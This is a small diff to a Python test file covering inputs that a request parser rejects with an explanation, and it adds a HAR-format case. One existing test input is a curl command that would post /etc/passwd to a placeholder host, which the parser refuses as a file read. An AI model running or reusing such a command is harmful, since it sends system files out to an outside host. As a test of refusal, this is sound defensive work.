@@ -98,6 +98,7 @@ def test_of_many_requests_the_first_are_tried() -> None:
         ("curl https://t.example/ -d @/etc/passwd", "auto", "files are not read"),
         ("https://[broken/g/collect", "auto", "is not a URL"),
         ('{"url": 7}', "auto", "url must be a text"),
+        ('{\n  "log": {"entries": []}\n}', "auto", "this is a visit that is saved as HAR"),
     ],
 )
 def test_what_cannot_be_read_is_told_in_words(text: str, kind: str, words: str) -> None:
